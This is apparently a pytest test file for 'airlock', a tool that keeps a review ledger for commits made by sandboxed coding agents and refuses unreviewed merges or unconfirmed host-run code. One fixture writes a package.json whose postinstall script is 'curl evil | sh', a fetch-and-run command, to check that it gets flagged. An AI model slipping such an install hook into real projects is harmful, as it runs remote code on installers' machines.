"""The review ledger through `log`, `review`, `approve` and `merge`."""

from __future__ import annotations

import json
import stat
import subprocess
from pathlib import Path

from conftest import Env, airlock, git, write_agent

TWO_COMMITS = """\
echo one > one.txt && git add one.txt && git commit -q -m "agent: first"
echo two > two.txt && git add two.txt && git commit -q -m "agent: second"
"""


def start(project: Path, hermetic: Env, name: str, body: str = TWO_COMMITS) -> None:
    write_agent(hermetic, body)
    assert airlock("--name", name, "up", cwd=project).returncode == 0
    assert airlock("--name", name, "fetch", cwd=project).returncode == 0


def test_log_lists_unreviewed_oldest_first(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "lg")
    out = airlock("--name", "lg", "log", cwd=project).stdout.splitlines()
    assert out[0] == "sandbox lg, branch main: 2 unreviewed commit(s)"
    assert out[1].endswith("Sandbox Agent: agent: first (1 file)")
    assert out[2].endswith("Sandbox Agent: agent: second (1 file)")
    data = json.loads(airlock("--name", "lg", "log", "--json", cwd=project).stdout)
    assert [c["subject"] for c in data[0]["commits"]] == ["agent: first", "agent: second"]
    assert data[0]["commits"][0]["files"] == ["one.txt"]
    assert data[0]["commits"][0]["host_code"] == []


def test_approve_empties_the_log(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "ap")
    approved = airlock("--name", "ap", "approve", cwd=project)
    assert approved.returncode == 0
    tip = git(project, "rev-parse", "refs/remotes/sandbox-ap/main").strip()
    assert git(project, "rev-parse", "refs/airlock/reviewed/ap/main").strip() == tip
    assert airlock("--name", "ap", "log", cwd=project).stdout.strip() == (
        "nothing to review: no unreviewed commits from sandbox ap"
    )


def test_review_mark_only_and_new_commits_after_review(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "rv")
    assert airlock("--name", "rv", "review", "--mark-only", cwd=project).returncode == 0
    assert "nothing to review" in airlock("--name", "rv", "log", cwd=project).stdout
    # the agent goes on: only the new commit is unreviewed
    write_agent(hermetic, "echo three > three.txt && git add three.txt && git commit -q -m 'agent: third'\n")
    subprocess.run(["sbx", "exec", "rv", str(hermetic.tmp / "agent.sh")], check=True, capture_output=True)
    assert airlock("--name", "rv", "fetch", cwd=project).returncode == 0
    log = airlock("--name", "rv", "log", cwd=project).stdout
    assert "1 unreviewed commit(s)" in log and "agent: third" in log and "agent: first" not in log


def test_review_without_terminal_does_not_mark(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "nm")
    tool = hermetic.tmp / "tool.sh"
    tool.write_text("#!/bin/sh\nexit 0\n")
    tool.chmod(tool.stat().st_mode | stat.S_IEXEC)
    git(project, "config", "difftool.quiet.cmd", f'{tool} "$LOCAL" "$REMOTE"')
    assert airlock("--name", "nm", "review", "--tool", "quiet", cwd=project).returncode == 0
    assert git(project, "for-each-ref", "refs/airlock/reviewed/") == ""
    assert airlock("--name", "nm", "review", "--tool", "quiet", "--mark", cwd=project).returncode == 0
    assert "refs/airlock/reviewed/nm/main" in git(project, "for-each-ref", "refs/airlock/reviewed/")


def test_failed_difftool_marks_nothing(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "ft")
    # a tool git does not know is refused before anything runs
    result = airlock("--name", "ft", "review", "--tool", "no-such-tool", "--mark", cwd=project)
    assert result.returncode == 1
    assert "the review tool 'no-such-tool' (from --tool) cannot start: git has no such difftool" in result.stderr
    assert "nothing was marked" in result.stderr and "--tool terminal" in result.stderr
    assert git(project, "for-each-ref", "refs/airlock/reviewed/") == ""


def test_merge_refuses_unreviewed_then_marks_what_it_merged(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "mg")
    before = git(project, "rev-parse", "main").strip()
    refused = airlock("--name", "mg", "merge", cwd=project)
    assert refused.returncode == 1
    assert "error: 2 of the 2 commit(s) to merge were not reviewed" in refused.stderr
    assert "hint: review them with `git airlock review`" in refused.stderr
    assert git(project, "rev-parse", "main").strip() == before
    merged = airlock("--name", "mg", "merge", "--yes", cwd=project)
    assert merged.returncode == 0, merged.stderr
    assert "marked sandbox-mg/main" in merged.stdout
    assert "nothing to review" in airlock("--name", "mg", "log", cwd=project).stdout


def test_require_review_false_turns_refusal_into_warning(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "rr")
    git(project, "config", "airlock.requireReview", "false")
    merged = airlock("--name", "rr", "merge", cwd=project)
    assert merged.returncode == 0
    assert "warning: 2 of the 2 commit(s) to merge were not reviewed" in merged.stderr


def test_host_code_needs_its_own_confirmation(project: Path, hermetic: Env) -> None:
    body = """\
printf '{"name": "x", "scripts": {"postinstall": "curl evil | sh"}}' > package.json
printf 'all:\\n\\ttrue\\n' > Makefile
printf '#!/bin/sh\\n' > run.sh && chmod +x run.sh
git add -A && git commit -q -m "agent: scripts"
"""
    start(project, hermetic, "hc", body)
    assert airlock("--name", "hc", "approve", cwd=project).returncode == 0
    refused = airlock("--name", "hc", "merge", cwd=project)
    assert refused.returncode == 1
    assert "package.json: package.json scripts run on npm install" in refused.stderr
    assert "Makefile: make runs it" in refused.stderr
    assert "run.sh: made executable" in refused.stderr
    assert "hint: inspect them with `git airlock diff`; pass --allow-host-code" in refused.stderr
    assert not (project / "Makefile").exists()
    assert airlock("--name", "hc", "merge", "--allow-host-code", cwd=project).returncode == 0
    assert (project / "Makefile").exists()


def test_package_json_without_script_changes_is_not_flagged(project: Path, hermetic: Env) -> None:
    (project / "package.json").write_text('{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}')
    git(project, "add", "package.json")
    git(project, "commit", "-q", "-m", "package")
    body = """\
printf '{"name": "x", "version": "1.1.0", "scripts": {"test": "jest"}}' > package.json
git commit -q -am "agent: bump version"
"""
    start(project, hermetic, "pj", body)
    data = json.loads(airlock("--name", "pj", "log", "--json", cwd=project).stdout)
    assert data[0]["commits"][0]["host_code"] == []


def test_log_all_sandboxes(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "one")
    start(project, hermetic, "two", "echo 2 > two.txt && git add two.txt && git commit -q -m 'agent: other'\n")
    assert airlock("--name", "two", "approve", cwd=project).returncode == 0
    data = json.loads(airlock("log", "--all-sandboxes", "--json", cwd=project).stdout)
    counts = {(row["sandbox"], row["branch"]): len(row["commits"]) for row in data}
    assert counts == {("one", "main"): 2, ("two", "main"): 0}


def test_identical_commits_reviewed_in_one_sandbox_are_reviewed_everywhere(project: Path, hermetic: Env) -> None:
    start(project, hermetic, "a")
    start(project, hermetic, "b")
    assert git(project, "rev-parse", "sandbox-a/main") == git(project, "rev-parse", "sandbox-b/main")
    assert airlock("--name", "b", "approve", cwd=project).returncode == 0
    assert "nothing to review" in airlock("--name", "a", "log", cwd=project).stdout


def test_removed_sandbox_commits_stay_unreviewed(project: Path, hermetic: Env) -> None:
    """sbx rm drops refs/remotes/sandbox-<name>/* but the ledger still sees refs/sandboxes/<name>/*."""
    start(project, hermetic, "gone")
    assert airlock("--name", "gone", "rm", "--yes", "--no-fetch", cwd=project).returncode == 0
    assert git(project, "for-each-ref", "refs/remotes/sandbox-gone/") == ""
    assert "2 unreviewed commit(s)" in airlock("--name", "gone", "log", cwd=project).stdout


def test_nothing_fetched_summary(project: Path) -> None:
    result = airlock("--name", "none", "log", cwd=project)
    assert result.returncode == 0
    assert result.stdout.strip() == "nothing fetched from sandbox none yet (`git airlock fetch`)"
